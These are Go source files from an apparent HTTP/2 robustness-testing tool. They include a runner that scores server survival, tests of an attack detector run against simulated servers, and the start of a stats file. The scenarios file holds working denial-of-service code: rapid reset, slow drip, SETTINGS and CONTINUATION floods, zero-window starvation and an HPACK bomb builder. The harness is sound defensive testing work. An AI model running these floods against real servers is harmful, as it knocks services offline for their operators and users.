	// VerdictSurvived: the post-attack probe matched the baseline.
	VerdictSurvived Verdict = "survived"
	// VerdictDegraded: the probe succeeded but latency blew past the
	// degradation bar.
	VerdictDegraded Verdict = "degraded"
	// VerdictHung: the post-attack probe failed or timed out.
	VerdictHung Verdict = "hung"
)

// Outcome is the typed record one scenario run produces.
type Outcome struct {
	Kind Kind `json:"kind"`
	// Parameters the run resolved to.
	Rate        float64       `json:"rate"`
	Concurrency int           `json:"concurrency"`
	Duration    time.Duration `json:"duration_ns"`

	// Ops counts completed scenario operations across all connections;
	// Errors counts attacker-side write/dial failures.
	Ops    int64 `json:"ops"`
	Errors int64 `json:"errors"`
	// Conns is how many attacker connections were established; Killed how
	// many of them the server terminated before the deadline.
	Conns  int `json:"conns"`
	Killed int `json:"killed"`
	// GoAways counts GOAWAY frames the attackers received, with the
	// distinct error codes seen — the server's defense evidence.
	GoAways     int      `json:"goaways"`
	GoAwayCodes []string `json:"goaway_codes,omitempty"`

	// BaselineLatency and ProbeLatency are the clean-request round trips
	// measured before and after the attack.
	BaselineLatency time.Duration `json:"baseline_latency_ns"`
	ProbeLatency    time.Duration `json:"probe_latency_ns"`

	Verdict Verdict `json:"verdict"`
	// Note carries failure detail (probe errors and the like).
	Note string `json:"note,omitempty"`
}

// Runner executes scenarios against one target.
type Runner struct {
	// Dial opens one transport connection to the target.
	Dial func() (net.Conn, error)
	// Authority is the default :authority (overridable per Params).
	Authority string
	// ProbePath is the small resource fetched for baseline and post-attack
	// health probes (default "/").
	ProbePath string
	// ProbeTimeout bounds each health probe (default 2s); a post-attack
	// probe that cannot complete within it marks the server hung.
	ProbeTimeout time.Duration
	// DegradedFactor and DegradedFloor set the degradation bar: the
	// post-attack probe may take up to max(Factor×baseline, Floor) before
	// the verdict drops to degraded. Defaults 5× and 250ms.
	DegradedFactor float64
	DegradedFloor  time.Duration
}

func (r *Runner) probeTimeout() time.Duration {
	if r.ProbeTimeout > 0 {
		return r.ProbeTimeout
	}
	return 2 * time.Second
}

func (r *Runner) probePath() string {
	if r.ProbePath != "" {
		return r.ProbePath
	}
	return "/"
}

// probe fetches the probe resource on a fresh, well-behaved connection and
// returns the round-trip time.
func (r *Runner) probe(authority string) (time.Duration, error) {
	nc, err := r.Dial()
	if err != nil {
		return 0, fmt.Errorf("attack: probe dial: %w", err)
	}
	c, err := h2conn.Dial(nc, h2conn.DefaultOptions())
	if err != nil {
		_ = nc.Close()
		return 0, fmt.Errorf("attack: probe setup: %w", err)
	}
	defer func() {
		_ = c.Close()
	}()
	start := time.Now()
	resp, err := c.FetchBody(h2conn.Request{Authority: authority, Path: r.probePath()}, r.probeTimeout())
	if err != nil {
		return 0, fmt.Errorf("attack: probe fetch: %w", err)
	}
	if got := resp.Status(); got != "200" {
		return 0, fmt.Errorf("attack: probe status %s", got)
	}
	return time.Since(start), nil
}

// baseline measures the clean-request latency as the median of three probes.
func (r *Runner) baseline(authority string) (time.Duration, error) {
	var samples []time.Duration
	for i := 0; i < 3; i++ {
		d, err := r.probe(authority)
		if err != nil {
			return 0, err
		}
		samples = append(samples, d)
	}
	sort.Slice(samples, func(i, j int) bool { return samples[i] < samples[j] })
	return samples[1], nil
}

// Run executes one scenario and classifies the server's fate.
func (r *Runner) Run(kind Kind, p Params) (Outcome, error) {
	scn, ok := scenarios[kind]
	if !ok {
		return Outcome{}, fmt.Errorf("attack: unknown scenario %q", kind)
	}
	if p.Authority == "" {
		p.Authority = r.Authority
	}
	p = p.withDefaults(kind)
	out := Outcome{Kind: kind, Rate: p.Rate, Concurrency: p.Concurrency, Duration: p.Duration}

	base, err := r.baseline(p.Authority)
	if err != nil {
		return out, err
	}
	out.BaselineLatency = base

	deadline := time.Now().Add(p.Duration)
	var (
		wg      sync.WaitGroup
		mu      sync.Mutex
		codes   = map[string]struct{}{}
		collect = func(t *tally, evs []h2conn.Event, killedEarly bool) {
			mu.Lock()
			defer mu.Unlock()
			out.Ops += t.ops
			out.Errors += t.errors
			out.Conns++
			if killedEarly {
				out.Killed++
			}
			for _, ev := range evs {
				if ev.Type == frame.TypeGoAway {
					out.GoAways++
					codes[ev.ErrCode.String()] = struct{}{}
				}
			}
		}
	)
	for i := 0; i < p.Concurrency; i++ {
		wg.Add(1)
		go func(worker int) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(p.Seed + int64(worker)))
			for time.Now().Before(deadline) {
				nc, err := r.Dial()
				if err != nil {
					mu.Lock()
					out.Errors++
					mu.Unlock()
					time.Sleep(10 * time.Millisecond)
					continue
				}
				c, err := h2conn.Dial(nc, scn.options(p))
				if err != nil {
					_ = nc.Close()
					mu.Lock()
					out.Errors++
					mu.Unlock()
					time.Sleep(10 * time.Millisecond)
					continue
				}
				t := &tally{}
				runErr := scn.run(c, p, deadline, newPacer(p, rng), t)
				killedEarly := runErr != nil && time.Until(deadline) > 50*time.Millisecond
				collect(t, c.Events(), killedEarly)
				_ = c.Close()
			}
		}(i)
	}
	wg.Wait()
	for code := range codes {
		out.GoAwayCodes = append(out.GoAwayCodes, code)
	}
	sort.Strings(out.GoAwayCodes)

	out.Verdict, out.ProbeLatency, out.Note = r.verdict(p.Authority, base, out.Killed)
	return out, nil
}

// verdict re-probes the server after the attack and classifies its fate.
func (r *Runner) verdict(authority string, base time.Duration, killed int) (Verdict, time.Duration, string) {
	lat, err := r.probe(authority)
	if err != nil {
		// One retry: the probe may have raced the last mitigation close.
		var retryErr error
		if lat, retryErr = r.probe(authority); retryErr != nil {
			return VerdictHung, 0, retryErr.Error()
		}
	}
	bar := time.Duration(r.degradedFactor() * float64(base))
	if floor := r.degradedFloor(); bar < floor {
		bar = floor
	}
	if lat > bar {
		return VerdictDegraded, lat, fmt.Sprintf("probe %v over bar %v", lat, bar)
	}
	if killed > 0 {
		return VerdictKilledAttacker, lat, ""
	}
	return VerdictSurvived, lat, ""
}

func (r *Runner) degradedFactor() float64 {
	if r.DegradedFactor > 0 {
		return r.DegradedFactor
	}
	return 5
}

func (r *Runner) degradedFloor() time.Duration {
	if r.DegradedFloor > 0 {
		return r.DegradedFloor
	}
	return 250 * time.Millisecond
}

// RunAll executes the whole catalog with shared params, in catalog order.
// Scenario-level errors (baseline probe failures) surface as hung outcomes
// rather than aborting the battery.
func (r *Runner) RunAll(p Params) []Outcome {
	outs := make([]Outcome, 0, len(Kinds()))
	for _, k := range Kinds() {
		out, err := r.Run(k, p)
		if err != nil && out.Verdict == "" {
			out.Kind = k
			out.Verdict = VerdictHung
			out.Note = err.Error()
		}
		outs = append(outs, out)
	}
	return outs
}

// tally accumulates one connection's scenario counters.
type tally struct {
	ops    int64
	errors int64
}

// pacer spaces scenario operations at the configured rate with jitter.
type pacer struct {
	interval time.Duration
	jitter   float64
	rng      *rand.Rand
}

func newPacer(p Params, rng *rand.Rand) *pacer {
	return &pacer{
		interval: time.Duration(float64(time.Second) / p.Rate),
		jitter:   p.Jitter,
		rng:      rng,
	}
}

// wait sleeps one jittered interval, reporting false once past deadline.
func (p *pacer) wait(deadline time.Time) bool {
	d := p.interval
	if p.jitter > 0 {
		d = time.Duration(float64(d) * (1 + p.jitter*(p.rng.Float64()-0.5)))
	}
	if remaining := time.Until(deadline); remaining <= 0 {
		return false
	} else if d > remaining {
		time.Sleep(remaining)
		return false
	}
	time.Sleep(d)
	return true
}

// Score aggregates a battery into the census robustness column.
type Score struct {
	// Verdicts maps each scenario run to its verdict.
	Verdicts map[Kind]Verdict `json:"verdicts"`
	// Survived counts scenarios the server weathered cleanly (survived or
	// killed-attacker); Total is the battery size.
	Survived int `json:"survived"`
	Total    int `json:"total"`
	// Value is the robustness score in [0,1]: full credit for clean
	// survival, half for degraded, none for hung.
	Value float64 `json:"value"`
}

// ScoreOutcomes folds a battery's outcomes into a Score.
func ScoreOutcomes(outs []Outcome) Score {
	s := Score{Verdicts: make(map[Kind]Verdict, len(outs)), Total: len(outs)}
	credit := 0.0
	for _, o := range outs {
		s.Verdicts[o.Kind] = o.Verdict
		switch o.Verdict {
		case VerdictSurvived, VerdictKilledAttacker:
			s.Survived++
			credit++
		case VerdictDegraded:
			credit += 0.5
		}
	}
	if s.Total > 0 {
		s.Value = credit / float64(s.Total)
	}
	return s
}
