package attack_test

import (
	"sync"
	"testing"
	"time"

	"h2scope/internal/attack"
	"h2scope/internal/h2conn"
	"h2scope/internal/metrics"
	"h2scope/internal/server"
)

// TestDetectorHammer runs mixed attack scenarios concurrently against one
// detector-armed server while benign traffic flows alongside. Under -race
// this exercises every cross-goroutine seam at once: trace fan-out to the
// subscription, detector sweeps, and mitigation writes (rate-limit atomics,
// stream-cap atomics, cross-goroutine GOAWAY+close) racing the serve loops.
// Afterward the server must still answer a clean request.
func TestDetectorHammer(t *testing.T) {
	reg := metrics.NewRegistry()
	tg := startTarget(t, server.NginxProfile(), sensitiveConfig(nil), reg)

	mixed := []attack.Kind{
		attack.KindRapidReset,
		attack.KindSettingsFlood,
		attack.KindSlowDrip,
		attack.KindContinuationFlood,
	}
	var wg sync.WaitGroup
	dur := smokeDuration(t) + 400*time.Millisecond
	for i, kind := range mixed {
		wg.Add(1)
		go func(worker int, k attack.Kind) {
			defer wg.Done()
			// Each attacker drives its own Runner so probes and attacks
			// interleave across goroutines too.
			ar := tg.runner()
			_, _ = ar.Run(k, attack.Params{
				Path:        "/large/1",
				Duration:    dur,
				Concurrency: 2,
				Jitter:      0.5,
				Seed:        int64(worker + 1),
			})
		}(i, kind)
	}
	// Benign reader hammering alongside the attackers.
	wg.Add(1)
	go func() {
		defer wg.Done()
		deadline := time.Now().Add(dur)
		for time.Now().Before(deadline) {
			nc, err := tg.lis.Dial()
			if err != nil {
				continue
			}
			c, err := h2conn.Dial(nc, h2conn.DefaultOptions())
			if err != nil {
				_ = nc.Close()
				continue
			}
			_, _ = c.FetchBody(h2conn.Request{Authority: "attack.example", Path: "/about.html"}, time.Second)
			_ = c.Close()
		}
	}()
	wg.Wait()

	// The server must have detected something under this barrage...
	if dets := tg.det.Detections(); len(dets) == 0 {
		t.Error("hammer produced no detections")
	}
	// ...and still serve a clean request afterward.
	nc, err := tg.lis.Dial()
	if err != nil {
		t.Fatalf("post-hammer dial: %v", err)
	}
	c, err := h2conn.Dial(nc, h2conn.DefaultOptions())
	if err != nil {
		_ = nc.Close()
		t.Fatalf("post-hammer setup: %v", err)
	}
	defer func() {
		_ = c.Close()
	}()
	resp, err := c.FetchBody(h2conn.Request{Authority: "attack.example", Path: "/about.html"}, 5*time.Second)
	if err != nil {
		t.Fatalf("post-hammer fetch: %v", err)
	}
	if got := resp.Status(); got != "200" {
		t.Fatalf("post-hammer status = %s, want 200", got)
	}
}
