package attack_test

import (
	"net"
	"os"
	"runtime"
	"strings"
	"testing"
	"time"

	"h2scope/internal/attack"
	"h2scope/internal/conformance"
	"h2scope/internal/core"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/pageload"
	"h2scope/internal/server"
	"h2scope/internal/tlsutil"
	"h2scope/internal/trace"
)

// target is one in-process server under attack.
type target struct {
	srv *server.Server
	lis *netsim.Listener
	det *server.Detector
}

// startTarget serves profile over netsim; cfg non-nil attaches a detector.
func startTarget(t *testing.T, p server.Profile, cfg *server.DetectorConfig, reg *metrics.Registry) *target {
	t.Helper()
	srv := server.New(p, server.DefaultSite("attack.example"))
	var det *server.Detector
	if cfg != nil {
		srv.Trace = trace.New(1 << 14)
		det = srv.StartDetector(*cfg, reg)
	}
	l := netsim.NewListener("attack")
	go func() {
		_ = srv.Serve(l)
	}()
	t.Cleanup(srv.Close)
	return &target{srv: srv, lis: l, det: det}
}

func (tg *target) runner() *attack.Runner {
	return &attack.Runner{
		Dial:      func() (net.Conn, error) { return tg.lis.Dial() },
		Authority: "attack.example",
		ProbePath: "/about.html",
	}
}

// smokeDuration is the per-scenario attack duration: short by default, 2s
// in CI's race-enabled smoke job via H2SCOPE_ATTACK_DURATION.
func smokeDuration(t *testing.T) time.Duration {
	if v := os.Getenv("H2SCOPE_ATTACK_DURATION"); v != "" {
		d, err := time.ParseDuration(v)
		if err != nil {
			t.Fatalf("H2SCOPE_ATTACK_DURATION: %v", err)
		}
		return d
	}
	if testing.Short() {
		return 150 * time.Millisecond
	}
	return 400 * time.Millisecond
}

// TestAttackBatterySmoke runs the full catalog against an undefended
// compliant server: every scenario must execute real operations and the
// server must come out healthy (the engine's protocol bounds — the
// CONTINUATION cap, the HPACK list-size limit — are its only defense here).
func TestAttackBatterySmoke(t *testing.T) {
	tg := startTarget(t, server.ApacheProfile(), nil, nil)
	r := tg.runner()
	dur := smokeDuration(t)

	outs := r.RunAll(attack.Params{Path: "/large/1", Duration: dur, Concurrency: 2})
	if len(outs) != len(attack.Kinds()) {
		t.Fatalf("outcomes = %d, want %d", len(outs), len(attack.Kinds()))
	}
	for _, out := range outs {
		if out.Ops == 0 {
			t.Errorf("%s: no operations performed", out.Kind)
		}
		if out.Conns == 0 {
			t.Errorf("%s: no connections established", out.Kind)
		}
		switch out.Verdict {
		case attack.VerdictSurvived, attack.VerdictKilledAttacker:
		default:
			t.Errorf("%s: verdict %s (%s), want survived/killed-attacker",
				out.Kind, out.Verdict, out.Note)
		}
	}
	// The HPACK bomb must die against the guarded decoder.
	for _, out := range outs {
		if out.Kind == attack.KindHPACKBomb && out.GoAways == 0 {
			t.Errorf("hpack-bomb: no GOAWAY evidence: %+v", out)
		}
	}
}

// TestAttackRunLeavesNoGoroutines pins the goroleak sweep's verdict on the
// attack runner empirically: after a scenario completes, every worker
// goroutine and every server-side connection goroutine it provoked must be
// gone, leaving only the target's accept loop from before the baseline.
func TestAttackRunLeavesNoGoroutines(t *testing.T) {
	tg := startTarget(t, server.ApacheProfile(), nil, nil)
	r := tg.runner()
	base := runtime.NumGoroutine()

	out, err := r.Run(attack.KindRapidReset, attack.Params{
		Path: "/large/1", Duration: smokeDuration(t), Concurrency: 3,
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Ops == 0 || out.Conns == 0 {
		t.Fatalf("attack performed no work: %+v", out)
	}

	deadline := time.Now().Add(3 * time.Second)
	for {
		n := runtime.NumGoroutine()
		if n <= base+2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines did not drain after attack: %d live, baseline %d", n, base)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// sensitiveConfig returns detector settings tightened so sub-second test
// attacks cross their thresholds within a couple of sweep intervals.
func sensitiveConfig(onDetect func(server.Detection)) *server.DetectorConfig {
	return &server.DetectorConfig{
		Window:  500 * time.Millisecond,
		Buckets: 5,
		Thresholds: server.Thresholds{
			HeaderRate:        50,
			ResetRate:         20,
			MinResets:         5,
			ResetRatio:        0.3,
			SettingsRate:      20,
			ContinuationRate:  10,
			AsymmetryMinBytes: 8 << 10,
			AsymmetryFactor:   4,
			TinyDataRate:      5,
			TinyDataBytes:     16,
			StarvationTime:    250 * time.Millisecond,
		},
		OnDetect: onDetect,
	}
}

// TestDetectorFlagsEveryScenario is the battery/detector integration
// contract: each catalog scenario, run against a detector-armed server,
// must produce at least one detection of the right kind within the attack
// window, and the mitigation must leave the server able to answer a clean
// request (every non-hung verdict implies the post-attack probe passed).
func TestDetectorFlagsEveryScenario(t *testing.T) {
	// Kinds whose signals legitimately blur: a long-lived drip also stops
	// making progress, so it may score as starvation.
	acceptable := map[attack.Kind][]server.AttackKind{
		attack.KindRapidReset:        {server.AttackRapidReset},
		attack.KindSlowDrip:          {server.AttackSlowDrip, server.AttackZeroWindowStarve},
		attack.KindSettingsFlood:     {server.AttackSettingsFlood},
		attack.KindZeroWindowStarve:  {server.AttackZeroWindowStarve},
		attack.KindHPACKBomb:         {server.AttackHPACKBomb},
		attack.KindContinuationFlood: {server.AttackContinuationFlood},
	}
	for _, kind := range attack.Kinds() {
		kind := kind
		t.Run(string(kind), func(t *testing.T) {
			reg := metrics.NewRegistry()
			tg := startTarget(t, server.ApacheProfile(), sensitiveConfig(nil), reg)
			r := tg.runner()
			out, err := r.Run(kind, attack.Params{Path: "/large/1", Duration: 800 * time.Millisecond})
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if out.Verdict == attack.VerdictHung {
				t.Fatalf("server hung after mitigation: %s", out.Note)
			}
			dets := tg.det.Detections()
			if len(dets) == 0 {
				t.Fatalf("no detections for %s (outcome %+v)", kind, out)
			}
			want := acceptable[kind]
			found := false
			for _, d := range dets {
				for _, w := range want {
					if d.Kind == w {
						found = true
					}
				}
				if d.Score < 1 {
					t.Errorf("detection fired below threshold: %+v", d)
				}
			}
			if !found {
				t.Errorf("detections %v lack any of %v", dets, want)
			}
			// The labeled metrics counters must agree with the detections.
			var total int64
			for _, k := range server.AttackKinds() {
				total += tg.det.DetectedTotal(k)
			}
			if total != int64(len(dets)) {
				t.Errorf("counter total %d != detections %d", total, len(dets))
			}
		})
	}
}

// TestDetectorMitigationEvidence pins the mitigation side: a rapid-reset
// attack against the default matrix draws GOAWAY(ENHANCE_YOUR_CALM) and
// kills attacker connections, and the mitigation counters account for it.
func TestDetectorMitigationEvidence(t *testing.T) {
	reg := metrics.NewRegistry()
	tg := startTarget(t, server.ApacheProfile(), sensitiveConfig(nil), reg)
	r := tg.runner()
	out, err := r.Run(attack.KindRapidReset, attack.Params{Duration: 800 * time.Millisecond})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if out.Killed == 0 {
		t.Errorf("no attacker connections killed: %+v", out)
	}
	if out.GoAways == 0 {
		t.Errorf("no GOAWAY evidence: %+v", out)
	}
	found := false
	for _, code := range out.GoAwayCodes {
		if code == "ENHANCE_YOUR_CALM" {
			found = true
		}
	}
	if !found {
		t.Errorf("GoAwayCodes = %v, want ENHANCE_YOUR_CALM", out.GoAwayCodes)
	}
	if out.Verdict != attack.VerdictKilledAttacker {
		t.Errorf("verdict = %s, want killed-attacker", out.Verdict)
	}
	mitigations := int64(0)
	for _, snap := range reg.Snapshot() {
		if len(snap.Name) >= len("h2_mitigations_total") &&
			snap.Name[:len("h2_mitigations_total")] == "h2_mitigations_total" {
			mitigations += snap.Value
		}
	}
	if mitigations == 0 {
		t.Error("h2_mitigations_total counters all zero after mitigation")
	}
}

// TestDetectorNoFalsePositives replays the benign corpus — the full
// conformance suite plus repeated page loads — through a detector-armed
// server at the default per-profile thresholds and requires zero
// detections. This is the acceptance bar that keeps the detector deployable
// on every testbed personality.
func TestDetectorNoFalsePositives(t *testing.T) {
	if testing.Short() {
		t.Skip("benign corpus replay is slow")
	}
	var dets []server.Detection
	cfg := &server.DetectorConfig{OnDetect: func(d server.Detection) { dets = append(dets, d) }}
	site := server.DefaultSite("attack.example")
	site.SetPush("/", "/static/style.css", "/static/app.js")

	srv := server.New(server.ApacheProfile(), site)
	srv.Trace = trace.New(1 << 14)
	det := srv.StartDetector(*cfg, nil)
	l := netsim.NewListener("attack-benign")
	go func() {
		_ = srv.Serve(l)
	}()
	// The record-layer conformance checks (GREASE ClientHello) need a TLS
	// twin of the same server; their handshakes are benign traffic too.
	cert, err := tlsutil.SelfSignedCert("attack.example")
	if err != nil {
		t.Fatalf("cert: %v", err)
	}
	tl := netsim.NewListener("attack-benign-tls")
	go func() {
		_ = srv.Serve(tlsutil.NewFingerprintListener(tl, tlsutil.ServerConfig(cert, true)))
	}()
	t.Cleanup(srv.Close)

	env := &conformance.Env{
		Dialer:         core.DialerFunc(func() (net.Conn, error) { return l.Dial() }),
		Authority:      "attack.example",
		SmallPath:      "/about.html",
		LargePath:      "/large/1",
		Timeout:        5 * time.Second,
		ReactionWindow: 100 * time.Millisecond,
		TLSDialer:      core.DialerFunc(func() (net.Conn, error) { return tl.Dial() }),
		TLSServerName:  "attack.example",
	}
	// The benign corpus is the RFC-conformance checks; the attack/* checks
	// are intentionally adversarial, so they are exactly what the detector
	// must flag and cannot be part of a false-positive baseline.
	for _, ch := range conformance.Suite() {
		if strings.HasPrefix(ch.ID, "attack/") {
			continue
		}
		if verdict, detail := ch.Run(env); verdict == conformance.Skip {
			t.Errorf("conformance %s skipped: %s", ch.ID, detail)
		}
	}
	if _, err := pageload.Measure(func() (net.Conn, error) { return l.Dial() },
		"attack.example", "/", []string{"/static/style.css", "/static/app.js"}, 3, 10*time.Second); err != nil {
		t.Fatalf("pageload: %v", err)
	}
	// One extra sweep interval so trailing events are scored before we read.
	time.Sleep(250 * time.Millisecond)
	if got := det.Detections(); len(got) != 0 {
		t.Fatalf("false positives on benign corpus: %+v", got)
	}
	if len(dets) != 0 {
		t.Fatalf("OnDetect fired on benign corpus: %+v", dets)
	}
}

// TestScoreOutcomes pins the census robustness-score fold.
func TestScoreOutcomes(t *testing.T) {
	outs := []attack.Outcome{
		{Kind: attack.KindRapidReset, Verdict: attack.VerdictKilledAttacker},
		{Kind: attack.KindSlowDrip, Verdict: attack.VerdictSurvived},
		{Kind: attack.KindSettingsFlood, Verdict: attack.VerdictDegraded},
		{Kind: attack.KindHPACKBomb, Verdict: attack.VerdictHung},
	}
	s := attack.ScoreOutcomes(outs)
	if s.Total != 4 || s.Survived != 2 {
		t.Fatalf("Survived/Total = %d/%d, want 2/4", s.Survived, s.Total)
	}
	if want := 2.5 / 4; s.Value != want {
		t.Fatalf("Value = %v, want %v", s.Value, want)
	}
	if s.Verdicts[attack.KindSettingsFlood] != attack.VerdictDegraded {
		t.Fatalf("Verdicts = %+v", s.Verdicts)
	}
}

// TestParseKind pins the name round trip the CLI depends on.
func TestParseKind(t *testing.T) {
	for _, k := range attack.Kinds() {
		got, ok := attack.ParseKind(string(k))
		if !ok || got != k {
			t.Errorf("ParseKind(%q) = %q, %v", k, got, ok)
		}
	}
	if _, ok := attack.ParseKind("nope"); ok {
		t.Error("ParseKind accepted unknown name")
	}
}

// TestHPACKBombBlockShape sanity-checks the bomb builder: small wire size,
// huge decoded expansion (asserted via the amplification arithmetic, not a
// decoder, to keep the test independent of decode limits).
func TestHPACKBombBlockShape(t *testing.T) {
	block := attack.HPACKBombBlock(3000, 12000)
	if len(block) > 20<<10 {
		t.Fatalf("bomb block is %d bytes on the wire, want < 20KiB", len(block))
	}
	decoded := 12001 * (3000 + len("bomb") + 32)
	if decoded < 30<<20 {
		t.Fatalf("decoded expansion only %d bytes", decoded)
	}
}
