package attack

import (
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
)

// scenario is one catalog entry: connection options plus the per-connection
// attack loop. run returns nil when the deadline ended the loop and an
// error when the connection died first (the server killed it, typically).
type scenario struct {
	options func(p Params) h2conn.Options
	run     func(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error
}

func defaultScenarioOptions(Params) h2conn.Options { return h2conn.DefaultOptions() }

var scenarios = map[Kind]scenario{
	KindRapidReset:        {options: defaultScenarioOptions, run: runRapidReset},
	KindSlowDrip:          {options: defaultScenarioOptions, run: runSlowDrip},
	KindSettingsFlood:     {options: defaultScenarioOptions, run: runSettingsFlood},
	KindZeroWindowStarve:  {options: zeroWindowOptions, run: runZeroWindowStarve},
	KindHPACKBomb:         {options: defaultScenarioOptions, run: runHPACKBomb},
	KindContinuationFlood: {options: continuationFloodOptions, run: runContinuationFlood},
}

// continuationFloodOptions disables the automatic SETTINGS/PING acks: the
// flood holds an unterminated header block open, and RFC 7540 section 6.10
// forbids any other frame (even an ACK) on the connection until it ends —
// an auto-ack mid-flood would end the attack with PROTOCOL_ERROR instead
// of exercising the server's CONTINUATION bound.
func continuationFloodOptions(Params) h2conn.Options {
	return h2conn.Options{}
}

// runRapidReset is the CVE-2023-44487 shape: open a stream, reset it
// immediately, repeat. Each cycle costs the attacker two tiny frames and
// the server a full stream setup/teardown.
func runRapidReset(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
	for {
		id, err := c.OpenStream(req)
		if err != nil {
			t.errors++
			return err
		}
		if err := c.WriteRSTStream(id, frame.ErrCodeCancel); err != nil {
			t.errors++
			return err
		}
		t.ops++
		if !pace.wait(deadline) {
			return nil
		}
	}
}

// slowDripStreams is how many request bodies one drip connection holds open.
const slowDripStreams = 4

// runSlowDrip opens a handful of request bodies and feeds them one byte at
// a time, round-robin — each stream stays perpetually almost-finished,
// pinning server state at negligible attacker cost.
func runSlowDrip(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
	req := h2conn.Request{Method: "POST", Authority: p.Authority, Path: p.Path}
	ids := make([]uint32, 0, slowDripStreams)
	for i := 0; i < slowDripStreams; i++ {
		id, err := c.OpenStreamBody(req)
		if err != nil {
			t.errors++
			return err
		}
		ids = append(ids, id)
	}
	drip := []byte{'.'}
	for i := 0; ; i++ {
		if err := c.WriteData(ids[i%len(ids)], false, drip); err != nil {
			t.errors++
			return err
		}
		t.ops++
		if !pace.wait(deadline) {
			return nil
		}
	}
}

// runSettingsFlood streams non-ACK SETTINGS frames; RFC 7540 obligates the
// server to acknowledge and apply every one.
func runSettingsFlood(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
	for {
		if err := c.WriteSettings(frame.Setting{
			ID:  frame.SettingInitialWindowSize,
			Val: frame.DefaultInitialWindowSize,
		}); err != nil {
			t.errors++
			return err
		}
		t.ops++
		if !pace.wait(deadline) {
			return nil
		}
	}
}

// zeroWindowOptions advertises a zero stream window, so the server can
// never send response DATA on any stream the scenario opens.
func zeroWindowOptions(Params) h2conn.Options {
	return h2conn.Options{
		Settings:        []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 0}},
		AutoSettingsAck: true,
		AutoPingAck:     true,
	}
}

// runZeroWindowStarve requests resources it never allows the server to
// deliver: the zero window pins every response (and its buffers) for the
// connection's whole lifetime. Rate is repurposed as the stream count.
func runZeroWindowStarve(c *h2conn.Conn, p Params, deadline time.Time, _ *pacer, t *tally) error {
	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
	n := int(p.Rate)
	if n < 1 {
		n = 1
	}
	for i := 0; i < n; i++ {
		if _, err := c.OpenStream(req); err != nil {
			t.errors++
			return err
		}
		t.ops++
	}
	// Hold the connection open, never sending WINDOW_UPDATE.
	for time.Now().Before(deadline) {
		if err := c.ReadErr(); err != nil {
			return err
		}
		time.Sleep(20 * time.Millisecond)
	}
	return nil
}

// bombValueLen and bombRefs shape the default HPACK bomb: one ~3KB entry
// (fits the RFC-default 4096-byte dynamic table) referenced 12,000 times —
// a ~15KB wire block decoding to ~36MB of header list.
const (
	bombValueLen = 3000
	bombRefs     = 12000
)

// runHPACKBomb sends the bomb block as a complete request header block; a
// guarded decoder rejects it with COMPRESSION_ERROR, an unguarded one
// materializes megabytes per request.
func runHPACKBomb(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
	block := HPACKBombBlock(bombValueLen, bombRefs)
	for {
		id := c.NextStreamID()
		if err := c.WriteHeadersRaw(id, block, true, true); err != nil {
			t.errors++
			return err
		}
		t.ops++
		if !pace.wait(deadline) {
			return nil
		}
	}
}

// HPACKBombBlock builds an encoded header block that inserts one
// valueLen-byte entry into the dynamic table (literal with incremental
// indexing) and then references it refs times (indexed representation,
// index 62 — the newest dynamic entry). The block amplifies roughly
// valueLen× between wire and decoded form, the RFC 7541 bomb shape.
// valueLen must leave the entry within the peer's dynamic table size
// (value + name + 32 octets, RFC 7541 section 4.1) or the references fail
// outright instead of amplifying.
func HPACKBombBlock(valueLen, refs int) []byte {
	block := make([]byte, 0, valueLen+refs+16)
	// Literal header field with incremental indexing, new name (0x40).
	block = append(block, 0x40)
	name := "bomb"
	block = appendHpackInt(block, 7, 0, uint64(len(name)))
	block = append(block, name...)
	block = appendHpackInt(block, 7, 0, uint64(valueLen))
	for i := 0; i < valueLen; i++ {
		block = append(block, 'x')
	}
	// Indexed header field (0x80), index 62 = first dynamic-table slot.
	for i := 0; i < refs; i++ {
		block = appendHpackInt(block, 7, 0x80, 62)
	}
	return block
}

// appendHpackInt encodes n with the RFC 7541 section 5.1 N-bit prefix
// integer representation (first carries the representation's tag bits).
func appendHpackInt(dst []byte, prefixBits uint8, first byte, n uint64) []byte {
	limit := uint64(1)<<prefixBits - 1
	if n < limit {
		return append(dst, first|byte(n))
	}
	dst = append(dst, first|byte(limit))
	n -= limit
	for n >= 128 {
		dst = append(dst, byte(n&0x7f)|0x80)
		n >>= 7
	}
	return append(dst, byte(n))
}

// continuationChunk is the per-frame fragment size of the flood.
const continuationChunk = 1024

// runContinuationFlood starts a header block and never finishes it: an
// endless CONTINUATION sequence the server must either buffer or bound.
// The fragment bytes are never decoded (END_HEADERS never arrives), so
// their content is irrelevant.
func runContinuationFlood(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
	frag := make([]byte, continuationChunk)
	id := c.NextStreamID()
	if err := c.WriteHeadersRaw(id, frag, false, false); err != nil {
		t.errors++
		return err
	}
	t.ops++
	for {
		if !pace.wait(deadline) {
			return nil
		}
		if err := c.WriteRawFrame(frame.TypeContinuation, 0, id, frag); err != nil {
			t.errors++
			return err
		}
		t.ops++
	}
}
