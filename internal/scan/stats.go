package scan

import (
	"fmt"
	"strings"
	"time"

	"h2scope/internal/metrics"
	"h2scope/internal/trace"
)

// latencyBuckets is the histogram resolution: bucket i covers target
// latencies in [2^(i-1), 2^i) milliseconds, with bucket 0 for sub-1ms.
const latencyBuckets = metrics.DefaultBuckets

// counters is the engine's live, lock-free instrumentation — a thin view
// over internal/metrics instruments. Each run owns a private, unregistered
// set (the authoritative source for its Stats snapshot, so sequential runs
// never bleed into each other), plus an optional mirror of registered
// instruments when Options.Metrics is set, feeding the process-cumulative
// debug endpoint. Bumps go through the methods below, which write both sets.
type counters struct {
	attempted *metrics.Counter
	succeeded *metrics.Counter
	failed    *metrics.Counter
	canceled  *metrics.Counter
